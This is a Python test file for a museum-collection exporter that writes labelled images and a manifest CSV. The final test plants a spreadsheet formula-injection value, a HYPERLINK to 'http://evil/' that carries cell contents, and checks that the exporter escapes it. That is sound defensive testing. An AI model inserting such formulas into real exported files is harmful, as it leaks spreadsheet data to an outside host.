"""The naive exporter plugin on collection items and images in the database."""

import io
import os

import pytest

from exporters import NothingToExport, UnknownExporter, get_exporter
from exporters.dataset import read_manifest
from exporters.naive.muses_exporter_plugin import do_export
from muses.collection.models import Item

pytestmark = pytest.mark.django_db


@pytest.fixture
def dataset_dir(settings, tmp_path):
    settings.MUSES_DATASET_DIR = tmp_path / "dataset"
    return settings.MUSES_DATASET_DIR


@pytest.fixture
def add_item(make_image):
    """An item with real Egyptian CC0 wording and one generated image."""
    counter = iter(range(10_000))

    def add(title, object_type="", images=1):
        number = next(counter)
        item = Item.objects.create(
            museum="Met Museum", object_number=f"MET_{number}", title=title, object_type=object_type
        )
        made = [make_image(item=item, color=(number % 250, 40, 90 + i)) for i in range(images)]
        return item, made

    return add


def export(**options):
    out = io.StringIO()
    report = do_export(out=out, progress=False, **options)
    return report, out.getvalue()


def manifest_by_image(root):
    return {row["image_id"]: row for row in read_manifest(root)}


def test_it_writes_each_labelled_image_under_its_split_and_class(add_item, dataset_dir):
    _item, (image,) = add_item("Canopic Jar with Man's Head", "Funerary Equipment")
    export()
    row = manifest_by_image(dataset_dir)[image.image_id]
    assert (row["class"], row["matched_word"], row["field"]) == ("vessel", "jar", "title")
    assert row["path"] == f"{row['split']}/vessel/{image.image_id}.jpg"
    written = dataset_dir / row["path"]
    assert written.read_bytes() == open(image.file.path, "rb").read()


def test_it_hard_links_images_rather_than_copying_them(add_item, dataset_dir):
    _item, (image,) = add_item("Sealing", "Sealing")
    export()
    row = manifest_by_image(dataset_dir)[image.image_id]
    assert os.stat(dataset_dir / row["path"]).st_ino == os.stat(image.file.path).st_ino


def test_it_counts_records_whose_classes_the_priority_decided(add_item, dataset_dir):
    # "shawabty" and "jar": the priority says vessel ("Canopic Jar with Man's Head" no longer
    # counts: "head" follows "with", a subject cue)
    add_item("Shawabty Jar with Lid", "Funerary Equipment")
    report, out = export()
    assert report.prioritised == 1
    assert "several classes, decided by class_priority: 1" in out


def test_a_curators_class_wins_over_the_words_in_the_title(add_item, dataset_dir):
    _item, (image,) = add_item("Shawabty Jar with Lid", "Funerary Equipment")
    image.curator_class = "shabti"
    image.save()
    export()
    row = manifest_by_image(dataset_dir)[image.image_id]
    assert (row["class"], row["field"]) == ("shabti", "curator_class")


def test_an_item_less_image_with_a_curators_class_is_exported(make_image, dataset_dir):
    image = make_image()
    image.curator_class = "coin"
    image.save()
    export()
    assert manifest_by_image(dataset_dir)[image.image_id]["class"] == "coin"


def test_an_unknown_curator_class_is_skipped_and_counted(add_item, dataset_dir):
    add_item("Sealing", "Sealing")
    _item, (image,) = add_item("Sealing", "Sealing")
    image.curator_class = "spaceship"
    image.save()
    report, _out = export()
    assert report.skipped == {"curator class not in definitions": 1}


def test_items_without_a_class_word_are_skipped_and_counted(add_item, dataset_dir):
    add_item("Offering Table", "Architectural fragment")
    add_item("Aureus (Coin) Portraying Emperor Antoninus Pius", "Coin")
    report, out = export()
    assert [e.class_name for e in report.entries] == ["coin"]
    assert "skipped (no class word): 1" in out


def test_all_images_of_an_item_are_exported_in_one_split(add_item, dataset_dir):
    for number in range(6):
        add_item(f"Statuette of Osiris {number}", "Sculpture")
    _item, images = add_item("Statue of Amenemhat III", "Sculpture", images=3)
    export()
    rows = manifest_by_image(dataset_dir)
    assert len({rows[image.image_id]["split"] for image in images}) == 1


def test_max_images_caps_each_class(add_item, dataset_dir):
    for number in range(5):
        add_item(f"Scarab {number}", "Scarabs")
    add_item("Finger Ring", "Jewelry")
    report, out = export(max_images=2)
    assert report.counts("train") + report.counts("validation") + report.counts("test") == {
        "amulet": 2,
        "jewellery": 1,
    }
    assert report.labelled["amulet"] == 5


def test_it_prints_a_per_class_table(add_item, dataset_dir):
    for number in range(3):
        add_item(f"Sealing {number}", "Sealing")
    _report, out = export()
    assert "class      labelled  kept  train  validation  test" in out
    assert "sealing           3     3      1           1     1" in out


def test_a_dry_run_writes_nothing(add_item, dataset_dir):
    add_item("Sealing", "Sealing")
    report, out = export(dry_run=True)
    assert len(report.entries) == 1
    assert not dataset_dir.exists()
    assert "Would write 1 images" in out


def test_a_re_export_replaces_the_previous_dataset(add_item, dataset_dir):
    _item, (old,) = add_item("Sealing", "Sealing")
    export()
    old.item.delete()
    _item, (new,) = add_item("Finger Ring", "Jewelry")
    export()
    assert set(manifest_by_image(dataset_dir)) == {new.image_id}
    assert not list(dataset_dir.glob("*/sealing"))


def test_an_export_with_nothing_labelled_leaves_the_old_dataset(add_item, dataset_dir):
    _item, (image,) = add_item("Sealing", "Sealing")
    export()
    image.item.delete()
    with pytest.raises(NothingToExport):
        export()
    assert read_manifest(dataset_dir)


def test_it_writes_to_another_folder_when_asked(add_item, dataset_dir, tmp_path):
    add_item("Sealing", "Sealing")
    export(output=tmp_path / "elsewhere")
    assert read_manifest(tmp_path / "elsewhere")
    assert not dataset_dir.exists()


def test_the_registry_knows_the_naive_exporter():
    assert get_exporter("naive").do_export is do_export


def test_the_registry_lists_the_known_exporters_for_an_unknown_name():
    with pytest.raises(UnknownExporter, match="known exporters: naive"):
        get_exporter("clever")


def test_the_manifest_is_safe_to_open_in_a_spreadsheet(add_item, dataset_dir):
    item, (image,) = add_item("Canopic Jar with Man's Head", "Funerary Equipment")
    item.object_number = '=HYPERLINK("http://evil/?"&A1,"x")'
    item.save()
    export()
    text = (dataset_dir / "manifest.csv").read_text()
    assert ',"\'=HYPERLINK(""http://evil/?""&A1,""x"")",' in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    # MUSES' own reader gets the value back as it was stored
    assert manifest_by_image(dataset_dir)[image.image_id]["object_number"] == item.object_number
